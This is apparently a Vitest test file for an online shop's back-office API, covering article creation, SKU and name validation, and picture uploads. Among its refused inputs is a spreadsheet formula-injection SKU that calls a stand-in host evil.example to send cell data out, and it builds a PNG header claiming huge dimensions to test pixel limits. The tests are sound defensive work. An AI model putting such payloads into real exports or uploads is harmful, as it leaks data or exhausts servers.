// New simple articles and their pictures from the back office
// (docs/decisions/194-back-office-catalogue.md): the article is in the public catalogue at once,
// with a picture checked by its content and drawn at the shop's widths; anything but a JPEG, PNG
// or WebP is refused and nothing is stored.
import { deflateSync } from 'node:zlib';
import { eq, sql } from 'drizzle-orm';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { adminArticleSchema, type AdminArticleCreate } from '../../contract/admin-catalogue.js';
import { articleSchema } from '../../contract/catalogue.js';
import { articles, images, staffActions } from '../../server/db/schema.js';
import { rows } from '../../server/domain/catalogue/rows.js';
import { aDepartment, staffCall, staffOk, type Staff } from './admin-catalogue-fixtures.js';
import { expectStaffOnly, staffSignIn } from './admin-fixtures.js';
import { getJson } from './catalogue-fixtures.js';
import { expectError, failingFields, startTestApi, type TestApi } from './harness.js';

let api: TestApi;
let staff: Staff;
beforeAll(async () => {
  api = await startTestApi({ env: { AUTH_RATE_PER_EMAIL: '10000', AUTH_RATE_PER_CLIENT: '10000' } });
  staff = await staffSignIn(api);
});
afterAll(async () => { await api?.close(); });

let n = 0;
async function newArticleBody(over: Partial<AdminArticleCreate> = {}): Promise<AdminArticleCreate> {
  n += 1;
  const department = await aDepartment(api.db);
  const [brand] = await rows<{ id: number }>(api.db, sql`select id from brands order by id limit 1`);
  return {
    sku: `NEW-${Date.now()}-${n}`, names: { it: 'Borraccia Termica Però', en: 'Insulated bottle' },
    descriptions: { it: 'Tiene fresca l\'acqua', en: 'Keeps water cool' },
    departmentId: department.id, brandId: brand!.id, price: 1990, vatRate: 22, stock: 12, stockTracked: true, onSale: true, ...over,
  };
}
const create = async (body: unknown) => adminArticleSchema.parse(await staffOk(api, staff, 'POST', '/v1/admin/articles', body, 201));
const png = () => sharp({ create: { width: 640, height: 480, channels: 3, background: '#c01818' } }).png().toBuffer();
const upload = (id: number, bytes: Uint8Array<ArrayBuffer>, type: string, name: string) => {
  const form = new FormData();
  form.append('file', new Blob([bytes], { type }), name);
  return staffCall(api, staff, 'POST', `/v1/admin/articles/${id}/images`, form);
};
const imageCount = async () => (await rows<{ n: number }>(api.db, sql`select count(*)::int as n from images`))[0]!.n;

/** A PNG whose header claims width × height, with one row of pixels: a few hundred bytes, never decoded whole. */
function claimedPng(width: number, height: number): Uint8Array<ArrayBuffer> {
  const crc = (bytes: Buffer) => {
    let c = 0xffffffff;
    for (const byte of bytes) {
      c ^= byte;
      for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    }
    return (c ^ 0xffffffff) >>> 0;
  };
  const chunk = (type: string, data: Buffer) => {
    const typed = Buffer.concat([Buffer.from(type, 'ascii'), data]);
    const out = Buffer.alloc(typed.length + 8);
    out.writeUInt32BE(data.length, 0);
    typed.copy(out, 4);
    out.writeUInt32BE(crc(typed), typed.length + 4);
    return out;
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8; // 8-bit greyscale, no interlace
  const png = Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(width + 1))), chunk('IEND', Buffer.alloc(0)),
  ]);
  return new Uint8Array(png);
}

describe('new articles', () => {
  it('are for staff only', async () => {
    const body = JSON.stringify(await newArticleBody());
    await expectStaffOnly(api, '/v1/admin/articles', { method: 'POST', headers: { 'content-type': 'application/json' }, body });
    await expectStaffOnly(api, '/v1/admin/articles/1/images', { method: 'POST', body: new FormData() });
  });

  it('is made with a slug from the Italian name, sold in the public catalogue at once, and recorded', async () => {
    const body = await newArticleBody();
    const made = await create(body);
    expect(made).toMatchObject({
      sku: body.sku, slug: 'borraccia-termica-pero', grade: 'simple', price: 1990, vatRate: 22, stock: 12, stockTracked: true, onSale: true,
      names: { it: 'Borraccia Termica Però', en: 'Insulated bottle', fr: '' }, departments: [{ id: body.departmentId }],
    });
    expect(made.history.map((h) => h.action)).toEqual(['article.create']);
    const shown = articleSchema.parse(await getJson(api, `/v1/catalogs/articles/${made.slug}`));
    expect(shown).toMatchObject({ id: made.id, sku: body.sku, name: 'Borraccia Termica Però', available: true, prices: { gross: 1990 } });
    const second = await create(await newArticleBody());
    expect(second.slug).toBe('borraccia-termica-pero-2');
  });

  it('refuses a code already taken (409) and bad input (400), making nothing', async () => {
    const body = await newArticleBody();
    await create(body);
    const before = (await api.db.select({ id: articles.id }).from(articles)).length;
    await expectError(await staffCall(api, staff, 'POST', '/v1/admin/articles', { ...body, names: { it: 'Altro' } }), 409, 'SKU_TAKEN');
    const bad = await newArticleBody();
    const vat = await expectError(await staffCall(api, staff, 'POST', '/v1/admin/articles', { ...bad, vatRate: 5 }), 400, 'VALIDATION_ERROR');
    expect(failingFields(vat)).toContain('vatRate');
    for (const wrong of [{ price: 0 }, { stock: -1 }, { names: { it: ' ' } }, { sku: '' }]) {
      await expectError(await staffCall(api, staff, 'POST', '/v1/admin/articles', { ...bad, ...wrong }), 400, 'VALIDATION_ERROR');
    }
    await expectError(await staffCall(api, staff, 'POST', '/v1/admin/articles', { ...bad, discountedPrice: 5000 }), 400, 'DISCOUNT_NOT_BELOW_PRICE');
    await expectError(await staffCall(api, staff, 'POST', '/v1/admin/articles', { ...bad, departmentId: 999_999 }), 400, 'DEPARTMENT_NOT_FOUND');
    expect((await api.db.select({ id: articles.id }).from(articles)).length).toBe(before);
  });
});

describe('what enters with a new article (decision 219)', () => {
  const post = (body: unknown, query = '') => staffCall(api, staff, 'POST', `/v1/admin/articles${query}`, body);
  const articleCount = async () => (await api.db.select({ id: articles.id }).from(articles)).length;

  it('a code is a product code: letters, digits, - _ . / and spaces inside, at most 64 characters', async () => {
    for (const sku of ['RG-TB-00001', 'ab.12/x_9', 'KIT 2026 A', 'x'.repeat(64), '  RG-7  ']) {
      const made = await create(await newArticleBody({ sku }));
      expect(made.sku).toBe(sku.trim());
    }
  });

  it('refuses a code a spreadsheet would run or that holds anything else, saying why in the asked language; nothing is made', async () => {
    const before = await articleCount();
    const refused = [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")', '=1+1', '+39 02', '-2+3', '@SUM(A1)', "'=1+1",
      'RG\t1', 'RG\r1', 'RG\n1', 'RG\u00071', 'RG\u00001', 'RG;1', 'RG,1', 'RG"1', 'Codice più', '/RG', '.RG', 'x'.repeat(65),
    ];
    for (const sku of refused) {
      const error = await expectError(await post(await newArticleBody({ sku })), 400, 'VALIDATION_ERROR');
      expect(failingFields(error), JSON.stringify(sku)).toEqual(['sku']);
    }
    const italian = await expectError(await post(await newArticleBody({ sku: '=1+1' })), 400, 'VALIDATION_ERROR');
    expect(italian.message).toContain('sku: Codice articolo non valido');
    const english = await expectError(await post(await newArticleBody({ sku: '=1+1' }), '?lang=en'), 400, 'VALIDATION_ERROR');
    expect(english.message).toContain('sku: Invalid article code');
    expect(await articleCount()).toBe(before);
  });

  it('names are free text without control characters; descriptions may break lines', async () => {
    const before = await articleCount();
    for (const [names, field] of [
      [{ it: 'Borraccia\u0007' }, 'names.it'], [{ it: 'Bor\nraccia' }, 'names.it'], [{ it: 'Borraccia', en: 'Bottle\u001b[31m' }, 'names.en'],
      [{ it: 'Borraccia', de: 'Tab\there' }, 'names.de'], [{ it: 'Borraccia\u0085' }, 'names.it'],
    ] as const) {
      const error = await expectError(await post(await newArticleBody({ names })), 400, 'VALIDATION_ERROR');
      expect(failingFields(error)).toEqual([field]);
      expect(error.message).toContain('carattere di controllo');
    }
    const description = await expectError(await post(await newArticleBody({ descriptions: { it: 'Riga\u0000' } })), 400, 'VALIDATION_ERROR');
    expect(failingFields(description)).toEqual(['descriptions.it']);
    await expectError(await post(await newArticleBody({ descriptions: { fr: 'Ligne\u000b' } })), 400, 'VALIDATION_ERROR');
    expect(await articleCount()).toBe(before);

    // A name that looks like a formula is a name: the catalogue file never writes names, and any
    // file that did would put it behind a quote.
    const made = await create(await newArticleBody({ names: { it: '=1+1 Borraccia' }, descriptions: { it: 'Prima riga\nSeconda riga\tcon tab\r\nTerza' } }));
    expect(made.names.it).toBe('=1+1 Borraccia');
    expect(made.descriptions.it).toBe('Prima riga\nSeconda riga\tcon tab\r\nTerza');
  });
});

describe('pictures', () => {
  it('a PNG is stored re-encoded, shown on the public product with its renditions, and recorded', async () => {
    const made = await create(await newArticleBody());
    const res = await upload(made.id, await png(), 'image/png', 'borraccia.png');
    expect(res.status).toBe(201);
    const after = adminArticleSchema.parse(await res.json());
    expect(after.images).toHaveLength(1);
    expect(after.images[0]).toMatchObject({ width: 640, height: 480 });
    const key = decodeURIComponent(after.images[0]!.url.replace('/img/', ''));
    const [stored] = await api.db.select().from(images).where(eq(images.key, key));
    expect(stored!.mime).toBe('image/webp');

    const shown = articleSchema.parse(await getJson(api, `/v1/catalogs/articles/${made.id}`));
    expect(shown.imgs.map((i) => i.url)).toEqual([after.images[0]!.url]);
    const rendition = await api.fetch(`${after.images[0]!.url}/576.webp`);
    expect(rendition.status).toBe(200);
    expect(rendition.headers.get('content-type')).toBe('image/webp');
    expect((await sharp(Buffer.from(await rendition.arrayBuffer())).metadata()).width).toBe(576);
    const [action] = await api.db.select().from(staffActions).where(eq(staffActions.action, 'article.image'));
    expect(action).toMatchObject({ subjectId: String(made.id), after: { image: key } });
  });

  it('a file that is not a JPEG, PNG or WebP is refused with 415 whatever it is called; no file or a text field is 400; nothing is stored', async () => {
    const made = await create(await newArticleBody());
    const before = await imageCount();
    await expectError(await upload(made.id, new TextEncoder().encode('<svg xmlns="http://www.w3.org/2000/svg"/>'), 'image/png', 'x.png'), 415, 'IMAGE_NOT_SUPPORTED');
    await expectError(await upload(made.id, new TextEncoder().encode('plain text, not a picture'), 'image/jpeg', 'x.jpg'), 415, 'IMAGE_NOT_SUPPORTED');
    const gif = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } }).gif().toBuffer();
    await expectError(await upload(made.id, gif, 'image/png', 'x.png'), 415, 'IMAGE_NOT_SUPPORTED');
    const none = await expectError(await staffCall(api, staff, 'POST', `/v1/admin/articles/${made.id}/images`, new FormData()), 400, 'VALIDATION_ERROR');
    expect(failingFields(none)).toContain('file');
    const text = new FormData();
    text.append('file', 'not a file');
    await expectError(await staffCall(api, staff, 'POST', `/v1/admin/articles/${made.id}/images`, text), 400, 'IMAGE_REQUIRED');
    await expectError(await upload(999_999, await png(), 'image/png', 'x.png'), 404, 'ARTICLE_NOT_FOUND');
    expect(await imageCount()).toBe(before);
    expect((await staffOk(api, staff, 'GET', `/v1/admin/articles/${made.id}`) as { images: unknown[] }).images).toEqual([]);
  });

  it('a picture of more pixels than the limit is 413 IMAGE_TOO_LARGE, as documented, saying the limits; nothing is stored (was 415)', async () => {
    const made = await create(await newArticleBody());
    const before = await imageCount();
    const huge = claimedPng(30_000, 30_000);
    expect(huge.length).toBeLessThan(1000);
    const error = await expectError(await upload(made.id, huge, 'image/png', 'huge.png'), 413, 'IMAGE_TOO_LARGE');
    expect(error.message).toBe('L\'immagine è troppo grande: al massimo 10 MB e 50 milioni di pixel (per esempio 8000 × 6250)');
    expect(error.payload).toEqual({ maxBytes: 10 * 1024 * 1024, maxPixels: 50_000_000 });
    // Just past the limit, below sharp's own default one.
    const over = await staffCall(api, staff, 'POST', `/v1/admin/articles/${made.id}/images?lang=en`, (() => {
      const form = new FormData();
      form.append('file', new Blob([claimedPng(8000, 6251)], { type: 'image/png' }), 'over.png');
      return form;
    })());
    const english = await expectError(over, 413, 'IMAGE_TOO_LARGE');
    expect(english.message).toBe('The picture is too large: 10 MB and 50 million pixels at most (8000 × 6250, for example)');
    expect(await imageCount()).toBe(before);

    const doc = await (await api.fetch('/v1/openapi.json')).json() as { paths: Record<string, Record<string, { responses: Record<string, unknown> }>> };
    expect(Object.keys(doc.paths['/v1/admin/articles/{id}/images']!.post!.responses)).toEqual(expect.arrayContaining(['413', '415']));
  });
});
